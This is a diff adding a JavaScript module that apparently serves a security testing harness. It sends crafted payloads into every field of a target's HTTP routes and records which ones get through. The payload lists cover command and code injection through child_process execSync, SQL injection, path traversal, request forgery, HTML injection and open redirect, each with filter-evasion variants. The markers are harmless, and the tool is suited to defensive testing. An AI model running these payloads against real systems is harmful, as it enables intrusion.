@@ -1,0 +1,102 @@
+// Attacks the routes that a module exports: every payload of a weakness, in every field that the code looks up, the
+// others harmless. What is told is where a payload went in and what was seen of it here; whether a program of ours was
+// executed, a file opened or a connection made is seen by the observer outside (exploit/marks.py lays them out). A
+// request goes the whole way, with its log-in and its validation: a handler is never called by itself.
+import fs from "node:fs";
+import { routesOf } from "./javascript_routes.mjs";
+import { forget, listen, structured } from "./javascript_statements.mjs";
+
+export { listen };
+
+const UP = "../".repeat(8);
+const RUN = "globalThis.process.getBuiltinModule('child_process').execSync('@WORD@')";
+const NETWORKS = ["192.0.2.", "198.51.100.", "203.0.113."];
+const FIRST_PORT = 20000;
+/** Weakness -> payloads, each a way past another naive filter. They do nothing but leave marks. */
+const TEXTS = {
+  command: [";@WORD@;", "gate;@WORD@ #", "|@WORD@", "$(@WORD@)", "`@WORD@`", "gate\n@WORD@\n", "gate&&@WORD@", "';@WORD@;'", '";@WORD@;"', "@WORD@"],
+  code: [RUN, `0)+${RUN}+(0`, `'+${RUN}+'`, `"+${RUN}+"`, `0;${RUN}`, `\${${RUN}}`],
+  sql: ["' OR @WORD@=1--", "1 OR @WORD@=1", '" OR @WORD@=1--', "gate') OR @WORD@=1--", "'/**/oR/**/@WORD@=1--", "\\' OR @WORD@=1--", "'||@WORD@||'"],
+  "path-read": ["@DECOY@", `${UP}..@DECOY@`, `gate/${UP}..@DECOY@`, `${"....//".repeat(9)}@DECOY@`, `${"..%2f".repeat(9)}@DECOY@`],
+  "path-write": ["@DROP@", `${UP}..@DROP@`, `gate/${UP}..@DROP@`, "@DECOY@", `${UP}..@DECOY@`],
+  "request-forgery": ["http://@ADDRESS@/", "http://gate.example@@ADDRESS@/", "@ADDRESS@", "http://@HOST@/", "https://@ADDRESS@/", "@HOST@"],
+  html: ["<@WORD@>", '"><@WORD@>', "'><@WORD@>", "</title></textarea></script><@WORD@>", "<scr<script>ipt><@WORD@>"],
+  "open-redirect": ["http://@HOST@/", "//@HOST@/", "https://@HOST@/", "/\\@HOST@/"],
+};
+const SEEN_HERE = new Set(["html", "open-redirect", "sql"]);
+const FIELDS = 24; // of one route
+
+function markOf(job, number) {
+  const word = `${job.seed}x${number}`;
+  return {
+    WORD: word,
+    DECOY: `${job.outside}/${word}.txt`,
+    DROP: `${job.outside}/new/${word}.txt`,
+    HOST: `${word}.example`,
+    ADDRESS: `${NETWORKS[number % 3]}${1 + (number % 250)}:${FIRST_PORT + number}`,
+  };
+}
+
+/** `job`: seed, program (folder on PATH), outside (folder of decoys), marks (how many are laid out), classes
+ * (weaknesses), until (milliseconds of Date.now), name. `say` tells the driver, `bounded` ends what takes too long. */
+export async function attack(space, file, tools, job, say, bounded) {
+  let number = 0;
+  let made = 0;
+  const late = () => Date.now() >= job.until || number >= job.marks;
+  const routes = routesOf(space, file, tools);
+  for (const route of routes) {
+    const heard = [];
+    for (const full of [true, false]) await quietly(() => bounded(route.send({ full, heard })));
+    const known = [...new Map(heard.map((one) => [one.join(), one])).values()].slice(0, FIELDS);
+    for (const weakness of job.classes) {
+      for (const [source, name] of TEXTS[weakness] ? known : []) {
+        for (const payload of TEXTS[weakness]) {
+          if (late()) break;
+          const mark = markOf(job, number++);
+          const sent = payload.replace(/@([A-Z]+)@/g, (all, word) => mark[word] ?? all);
+          made += 1;
+          forget();
+          const how = { full: true, values: { [source]: { [name]: sent } } };
+          // What throws behind a payload may have run it.
+          const reply = (await quietly(() => bounded(route.send(how)))) ?? { headers: {}, body: "", request: route.told(how) };
+          const shown = shows(weakness, reply, mark);
+          const ran = fs.existsSync(`${job.program}/${mark.WORD}.ran`);
+          if (SEEN_HERE.has(weakness) && !shown) continue;
+          say("attempt", {
+            ...{ mark: mark.WORD, address: mark.ADDRESS, target: job.name, surface: route.entry, via: "http", weakness },
+            ...{ field: [source, name], payload, request: reply.request, application: "", shown, mixed: true, at: ["", 0], text: weakness === "sql" ? shown : "" },
+          });
+          if (shown || ran) break;
+        }
+      }
+    }
+  }
+  return routes.length ? `${made} attempts${late() ? ", out of time" : ""}` : "no route leads to it";
+}
+
+async function quietly(act) {
+  try {
+    return await act();
+  } catch {
+    return undefined;
+  }
+}
+
+/** What an answer shows of a payload that got through; empty where it shows nothing. */
+function shows(weakness, { headers, body }, mark) {
+  if (weakness === "sql") return structured(mark.WORD);
+  const said = Object.fromEntries(Object.entries(headers).map(([name, value]) => [name.toLowerCase(), String(value)]));
+  if (weakness === "html") {
+    const page = /\bhtml\b/.test(said["content-type"] ?? "text/html") && !/attachment/.test(said["content-disposition"] ?? "");
+    return page && body.includes(`<${mark.WORD}>`) ? `the answer holds the tag <${mark.WORD}>` : "";
+  }
+  if (weakness === "open-redirect") {
+    try {
+      const to = new URL((said.location ?? "").replace(/\\/g, "/"), "http://localhost/");
+      return to.hostname === mark.HOST ? `the answer leads to ${mark.HOST}` : "";
+    } catch {
+      return "";
+    }
+  }
+  return "";
+}
